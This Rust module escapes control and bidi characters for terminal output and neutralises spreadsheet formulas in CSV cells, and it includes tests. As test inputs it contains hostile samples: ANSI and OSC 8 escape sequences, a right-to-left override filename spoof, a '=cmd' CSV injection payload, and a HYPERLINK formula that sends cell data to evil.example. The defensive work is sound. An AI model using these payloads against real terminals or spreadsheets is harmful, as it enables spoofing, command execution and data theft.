//! Text that came from a server or a disk, made safe for where it is shown.
//!
//! Names, messages and splash text are chosen by whoever controls the room or
//! the server. Printed raw, an `ESC` sequence can retitle or clear a terminal,
//! plant a link (OSC 8) or hide text (CR, C1 `0x9B`, bidi overrides); written
//! raw into a CSV cell, `=cmd|' /C calc'!A0` is a formula a spreadsheet runs.
//!
//! - [`for_terminal`] makes one line safe for a terminal or a log line for people;
//!   [`for_terminal_text`] does the same for text that may span lines (splash
//!   text, a server's error message), keeping line breaks and tabs.
//! - [`csv_cell`] neutralises a spreadsheet formula as OWASP's "CSV Injection"
//!   page recommends: a cell that begins with `=`, `+`, `-`, `@`, TAB or CR gets
//!   a leading `'`, so the spreadsheet shows it as text.
//!
//! JSON output needs neither: its own escaping is exact.

use std::borrow::Cow;
use std::fmt::Write as _;

/// Characters that change how text displays without being visible:
/// bidirectional embeddings, overrides, isolates and marks.
pub fn is_bidi_control(c: char) -> bool {
    matches!(
        c,
        '\u{061C}' | '\u{200E}' | '\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}'
    )
}

/// Whether `c` must not reach a terminal as it is: C0 controls (newline and
/// tab included), DEL, C1 controls and bidi controls.
fn unsafe_on_terminal(c: char) -> bool {
    c.is_control() || is_bidi_control(c)
}

fn escape_into(out: &mut String, c: char) {
    let n = c as u32;
    if n <= 0xFF {
        let _ = write!(out, "\\x{n:02x}");
    } else {
        let _ = write!(out, "\\u{{{n:04x}}}");
    }
}

fn escaped(s: &str, keep: impl Fn(char) -> bool) -> Cow<'_, str> {
    if !s.chars().any(|c| unsafe_on_terminal(c) && !keep(c)) {
        return Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len() + 8);
    for c in s.chars() {
        if unsafe_on_terminal(c) && !keep(c) {
            escape_into(&mut out, c);
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

/// One line for a terminal: every control character (newline, tab, `ESC`,
/// DEL, C1) and bidi control is shown as a visible escape (`\x1b`,
/// `\u{202e}`), so nothing the text contains can act on the terminal or hide
/// part of the line. Text without such characters is returned unchanged.
///
/// ```
/// use intralinks_ext::text::for_terminal;
/// assert_eq!(for_terminal("Q3\u{1b}]0;owned\u{7}.pdf"), "Q3\\x1b]0;owned\\x07.pdf");
/// assert_eq!(for_terminal("Übersicht – DD.txt"), "Übersicht – DD.txt");
/// ```
pub fn for_terminal(s: &str) -> Cow<'_, str> {
    escaped(s, |_| false)
}

/// Text that may span lines, for a terminal: as [`for_terminal`], but line
/// feeds and tabs are kept. A carriage return is escaped, since it lets a line
/// overwrite what came before it.
///
/// ```
/// use intralinks_ext::text::for_terminal_text;
/// assert_eq!(for_terminal_text("line 1\nline 2\r\u{9b}2J"), "line 1\nline 2\\x0d\\x9b2J");
/// ```
pub fn for_terminal_text(s: &str) -> Cow<'_, str> {
    escaped(s, |c| c == '\n' || c == '\t')
}

/// A text cell for CSV that a spreadsheet will not read as a formula: a cell
/// beginning with `=`, `+`, `-`, `@`, TAB or CR (or their full-width forms)
/// gets a leading `'`, as OWASP's "CSV Injection" page recommends. Quoting and
/// embedded quotes are the CSV writer's job.
///
/// ```
/// use intralinks_ext::text::csv_cell;
/// assert_eq!(csv_cell("=cmd|' /C calc'!A0"), "'=cmd|' /C calc'!A0");
/// assert_eq!(csv_cell("Ann"), "Ann");
/// ```
pub fn csv_cell(s: &str) -> Cow<'_, str> {
    match s.chars().next() {
        Some(
            '=' | '+' | '-' | '@' | '\t' | '\r' | '\u{FF1D}' | '\u{FF0B}' | '\u{FF0D}' | '\u{FF20}',
        ) => Cow::Owned(format!("'{s}")),
        _ => Cow::Borrowed(s),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_control_class_is_escaped() {
        assert_eq!(for_terminal("a\u{1b}[2Jb"), "a\\x1b[2Jb");
        assert_eq!(for_terminal("a\rb"), "a\\x0db");
        assert_eq!(for_terminal("a\nb\tc"), "a\\x0ab\\x09c");
        assert_eq!(for_terminal("a\u{7f}b"), "a\\x7fb");
        assert_eq!(for_terminal("a\u{9b}31mb"), "a\\x9b31mb");
        assert_eq!(for_terminal("cod.\u{202e}fdp.exe"), "cod.\\u{202e}fdp.exe");
        assert_eq!(
            for_terminal("\u{1b}]8;;http://evil.example\u{1b}\\x\u{1b}]8;;\u{1b}\\"),
            "\\x1b]8;;http://evil.example\\x1b\\x\\x1b]8;;\\x1b\\"
        );
        for s in ["\u{1b}", "\u{0}", "\u{85}", "\u{2066}", "\u{61c}"] {
            let out = for_terminal(s);
            assert!(!out.chars().any(unsafe_on_terminal), "{out:?}");
        }
    }

    #[test]
    fn plain_text_is_borrowed() {
        assert!(matches!(
            for_terminal("Financials/FY2023"),
            Cow::Borrowed(_)
        ));
        assert!(matches!(for_terminal_text("a\nb"), Cow::Borrowed(_)));
        assert!(matches!(csv_cell("Demo API Workspace"), Cow::Borrowed(_)));
    }

    #[test]
    fn formulas_are_neutralised() {
        assert_eq!(csv_cell("+Ann"), "'+Ann");
        assert_eq!(csv_cell("@Org"), "'@Org");
        assert_eq!(csv_cell("-1+1"), "'-1+1");
        assert_eq!(csv_cell("\r=1+1"), "'\r=1+1");
        assert_eq!(csv_cell("\t=1"), "'\t=1");
        assert_eq!(csv_cell("\u{FF1D}1+1"), "'\u{FF1D}1+1");
        assert_eq!(
            csv_cell("=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")"),
            "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")"
        );
        assert_eq!(csv_cell(""), "");
        assert_eq!(csv_cell("a=b"), "a=b");
    }
}
